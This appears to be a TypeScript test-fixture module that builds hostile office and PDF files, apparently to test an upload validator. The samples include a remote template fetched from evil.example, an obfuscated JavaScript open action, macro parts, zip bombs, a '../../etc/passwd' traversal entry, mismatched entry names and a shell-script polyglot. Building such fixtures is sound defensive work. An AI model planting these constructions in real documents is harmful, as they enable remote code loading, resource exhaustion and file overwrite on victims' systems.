import { crc32, deflateRawSync } from "node:zlib";

interface Part {
  name: string;
  data: Buffer | string;
  /** A false size in the directory. */
  size?: number;
  flags?: number;
  /** The name in its own header. */
  localName?: string;
}

/** An archive as a program would write it, or as one would not. */
function zip(parts: readonly Part[]): Buffer {
  const bodies: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, data, size, flags = 0, localName = name } of parts) {
    const plain = Buffer.from(data);
    const packed = deflateRawSync(plain);
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt16LE(flags, 2);
    fields.writeUInt16LE(8, 4);
    fields.writeUInt32LE(crc32(plain), 10);
    fields.writeUInt32LE(packed.length, 14);
    fields.writeUInt32LE(size ?? plain.length, 18);
    const local = Buffer.from(fields);
    local.writeUInt16LE(Buffer.byteLength(localName), 22);
    bodies.push(Buffer.from("PK\x03\x04", "latin1"), local, Buffer.from(localName), packed);
    const central = Buffer.from(fields);
    central.writeUInt16LE(Buffer.byteLength(name), 22);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(at, 10);
    directory.push(Buffer.from("PK\x01\x02\x14\0", "latin1"), central, rest, Buffer.from(name));
    at += 30 + Buffer.byteLength(localName) + packed.length;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...bodies, list, end]);
}

const office = "application/vnd.openxmlformats-officedocument";
const typesOf = (main: string, more = "") =>
  `<Types><Override PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`;
const word = typesOf(`${office}.wordprocessingml.document.main+xml`);
const rels = { name: "_rels/.rels", data: "<Relationships/>" };
const document = { name: "word/document.xml", data: "<w:document>Thank you</w:document>" };

export const docx = (...more: Part[]) => zip([{ name: "[Content_Types].xml", data: word }, rels, document, ...more]);
export const pptx = () =>
  zip([
    { name: "[Content_Types].xml", data: typesOf(`${office}.presentationml.presentation.main+xml`) },
    rels,
    { name: "ppt/presentation.xml", data: "<p:presentation/>" },
  ]);
export const pdf = (inside = "") =>
  Buffer.from(`%PDF-1.7\n1 0 obj<</Type/Catalog${inside}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`, "latin1");

export const docm = () =>
  zip([
    { name: "[Content_Types].xml", data: typesOf("application/vnd.ms-word.document.macroEnabled.main+xml") },
    rels,
    document,
  ]);
export const withVba = () => docx({ name: "word/vbaProject.bin", data: "program" });
export const withTemplate = () =>
  docx({
    name: "word/_rels/settings.xml.rels",
    data: '<Relationship Type=".../attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>',
  });
export const encryptedDocx = () => Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]);
export const encryptedPart = () => docx({ name: "word/media/a.xml", data: "x", flags: 1 });
export const encryptedPdf = () => pdf("/Encrypt 5 0 R");
export const scriptedPdf = () => pdf("/OpenAction<</S/#4aavaScript/JS(app.alert(1))>>");
export const plainZip = () => zip([{ name: "hello.txt", data: "hello" }]);
/** Few bytes that become two hundred million. */
export const bombDocx = () => docx({ name: "word/media/a.xml", data: Buffer.alloc(210_000_000) });
export const lyingBomb = () => docx({ name: "word/media/a.xml", data: Buffer.alloc(2_000_000), size: 1_000 });
export const climbing = () => docx({ name: "../../etc/passwd", data: "x" });
export const twoNames = () => docx({ name: "word/a.xml", localName: "word/b.xml", data: "x" });
export const twice = () => docx(document);
export const programBefore = () => Buffer.concat([Buffer.from("PK\x03\x04#!/bin/sh\nexit\n", "latin1"), docx()]);
